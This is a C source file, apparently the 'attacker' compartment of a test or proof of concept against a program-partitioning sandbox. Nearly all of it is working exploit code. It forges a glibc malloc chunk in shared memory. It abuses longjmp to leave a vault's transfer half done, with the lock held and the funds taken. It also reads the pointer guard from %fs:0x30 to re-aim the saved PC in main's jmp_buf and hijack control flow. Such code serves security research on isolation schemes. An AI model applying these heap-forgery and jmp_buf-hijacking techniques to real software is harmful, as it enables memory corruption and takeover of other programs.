/* The attacker: its compartment's code is the thief's. */
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

/* Shared with every compartment (shared.globals); main may read it. */
_Alignas(16) char exchange[256];

/* Ends main's call with a longjmp to `target` (unwind.c carries it back to main as BH_ST_UNWOUND). */
int thief_jump(uintptr_t target, int value)
{
    longjmp(*(jmp_buf *)target, value);
}

/* A label main frees when done (it would be a block of the shared heap): instead, a made-up chunk of the C
 * library's malloc (size 0x30, in use before it) in memory main can read and the thief can write. */
char *thief_label(void)
{
    uint64_t size = 0x31;
    memset(exchange, 0, sizeof exchange);
    memcpy(exchange + 8, &size, sizeof size);
    memcpy(exchange + 0x38, &size, sizeof size);   /* the next chunk's header, for good measure */
    strcpy(exchange + 16, "thief-label");
    return exchange + 16;
}

/* What main's next C-library block of that size holds, if main's malloc handed out the made-up chunk. */
void thief_peek(void)
{
    printf("thief: the exchange holds '%s'\n", exchange + 16);
    fflush(stdout);
}

/* The vault's audit hook: the vault is serving main's vault_transfer, which main called under a setjmp of its
 * own (an error handler, as for libpng). The thief jumps there, past the vault's call: the vault's entry is
 * left half done (the lock held, the amount taken and not given). */
static uintptr_t main_handler;

void thief_target(uintptr_t target)
{
    main_handler = target;
}

int thief_audit(int amount)
{
    if (main_handler)
        longjmp(*(jmp_buf *)main_handler, 99);
    return amount;
}

/* main lends the thief a jmp_buf of its own frame (its address crosses a gate, so the partitioned program
 * keeps it on the thread's shared stack, which the thief maps). Every process is a fork of main: the thief's
 * pointer guard is main's, so it can re-aim the saved PC (here at `pc`, an address of main's code that it
 * knows; handed over for brevity) and main's own longjmp goes there. */
static uintptr_t guard(void)
{
    uintptr_t g;
    __asm__("mov %%fs:0x30, %0" : "=r"(g));
    return g;
}

void thief_keep(jmp_buf *jb, uintptr_t pc)
{
    uintptr_t v = pc ^ guard();
    v = (v << 0x11) | (v >> (64 - 0x11));
    long *w = (long *)(*jb)->__jmpbuf;
    w[7] = (long)v;   /* glibc x86-64: rbx, rbp, r12-r15, rsp, pc */
}
